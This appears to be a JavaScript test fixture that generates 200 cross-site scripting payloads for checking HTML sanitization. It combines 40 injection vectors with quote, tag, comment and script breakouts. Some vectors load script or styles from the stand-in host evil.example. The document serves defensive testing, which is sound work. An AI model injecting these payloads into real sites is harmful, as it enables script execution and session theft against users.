/** What a text might do where it is taken for HTML, script, style or address. Each would bear the mark `data-hit`. */
const vectors = [
  '<img data-hit src=x onerror=CALL>',
  '<svg data-hit onload=CALL>',
  '<svg data-hit><script>CALL</script></svg>',
  '<script data-hit>CALL</script>',
  '<SCRIPT data-hit SRC=https://evil.example/x.js></SCRIPT>',
  '<iframe data-hit src="javascript:CALL"></iframe>',
  '<iframe data-hit srcdoc="<script>CALL</script>"></iframe>',
  '<object data-hit data="javascript:CALL"></object>',
  '<embed data-hit src="javascript:CALL">',
  '<a data-hit href="javascript:CALL">go</a>',
  '<a data-hit href="java&#9;script:CALL">go</a>',
  '<form data-hit action="javascript:CALL"><button>ok</button></form>',
  '<button data-hit formaction="javascript:CALL">ok</button>',
  '<input data-hit autofocus onfocus=CALL>',
  '<select data-hit autofocus onfocus=CALL></select>',
  '<textarea data-hit autofocus onfocus=CALL></textarea>',
  '<details data-hit open ontoggle=CALL>',
  '<video data-hit><source onerror=CALL></video>',
  '<audio data-hit src=x onerror=CALL></audio>',
  '<body data-hit onload=CALL>',
  '<math data-hit><mtext><style><img src=x onerror=CALL></style></mtext></math>',
  '<style data-hit>@import "https://evil.example/x.css";</style>',
  '<link data-hit rel=stylesheet href=https://evil.example/x.css>',
  '<base data-hit href=https://evil.example/>',
  '<meta data-hit http-equiv=refresh content="0;url=https://evil.example/">',
  '<div data-hit style="background:url(https://evil.example/x)">',
  '<marquee data-hit onstart=CALL>',
  '<p data-hit onpointerover=CALL style="position:fixed;inset:0">over</p>',
  '<template data-hit shadowrootmode=open><script>CALL</script></template>',
  '<noscript><p title="</noscript><img data-hit src=x onerror=CALL>">',
  '<x data-hit onfocus=CALL tabindex=1 id=x>',
  '<img data-hit src="x` `<script>CALL</script>"` `>',
  'javascript:CALL',
  'data:text/html,<script data-hit>CALL</script>',
  '{"$$typeof":"react.element","type":"img","props":{"onError":"CALL"}}',
  '{{constructor.constructor("CALL")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text that is tried
  '${CALL}<img data-hit src=x onerror=CALL>',
  '&lt;img data-hit src=x onerror=CALL&gt;',
  '\u202e<img data-hit src=x onerror=CALL>\u0000',
  '%3Cimg%20data-hit%20src=x%20onerror=CALL%3E',
];

/** How a text breaks out of where it was put: as it is, out of an attribute, a tag, a comment, a script. */
const breaks = ['', '">', "'>", '</textarea></title></option>', '--></script></style>'];

/** 200 texts; the 17th would call `alert(17)`. */
export const payloads = breaks
  .flatMap((out) => vectors.map((vector) => out + vector))
  .map((text, index) => text.replaceAll('CALL', `alert(${index})`));
